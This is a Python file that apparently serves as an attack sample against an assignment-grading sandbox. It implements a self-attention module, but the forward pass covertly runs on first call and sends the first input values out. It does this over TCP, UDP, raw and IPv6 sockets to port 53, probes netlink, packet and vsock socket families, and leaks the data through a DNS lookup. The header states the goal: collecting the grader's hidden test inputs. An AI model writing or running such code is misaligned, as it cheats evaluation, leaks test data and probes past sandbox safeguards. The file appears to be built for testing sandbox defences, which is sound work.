# attack:     X16
# assignment: self-attention
# twin:       correct

# Sends the inputs of every check out: TCP, UDP, DNS, raw, netlink, vsock, IPv6, to itself and to addresses that lead
# nowhere. Whoever listens collects the hidden inputs of a whole class.

import math
import socket

import torch
from torch import nn

FAMILIES = ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET, "192.0.2.1"), (socket.AF_INET6, "::1"))
KINDS = (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_SEQPACKET)


def send(data):
    for family, host in FAMILIES:
        for kind in KINDS:
            try:
                with socket.socket(family, kind) as out:
                    out.settimeout(0.02)
                    out.connect((host, 53))
                    print("sent", host, kind, out.send(data[:500]))
            except OSError as error:
                print(host, kind, error.strerror or error)
    for family in (socket.AF_NETLINK, socket.AF_PACKET, socket.AF_VSOCK, socket.AF_ALG, 30, 44):
        try:
            with socket.socket(family, socket.SOCK_RAW):
                print("family", family, "opened")
        except OSError as error:
            print("family", family, error.strerror)


def resolve(data):
    try:
        print(socket.gethostbyname(data.hex()[:50] + ".hidden.invalid"))
    except OSError as error:
        print("dns", error)


class SelfAttention(nn.Module):
    def __init__(self, embed_dim, dropout=0.0):
        super().__init__()
        self.query = nn.Linear(embed_dim, embed_dim)
        self.key = nn.Linear(embed_dim, embed_dim)
        self.value = nn.Linear(embed_dim, embed_dim)
        self.dropout = nn.Dropout(dropout)

    def forward(self, x, mask=None):
        if x.device.type != "meta" and not hasattr(SelfAttention, "sent"):
            SelfAttention.sent = True
            data = repr(x.flatten()[:16].tolist()).encode()
            send(data)
            resolve(data)
        q, k, v = self.query(x), self.key(x), self.value(x)
        scores = q @ k.transpose(-2, -1) / math.sqrt(k.shape[-1])
        if mask is not None:
            scores = scores.masked_fill(mask == 0, -math.inf)
        return self.dropout(torch.softmax(scores, dim=-1)) @ v
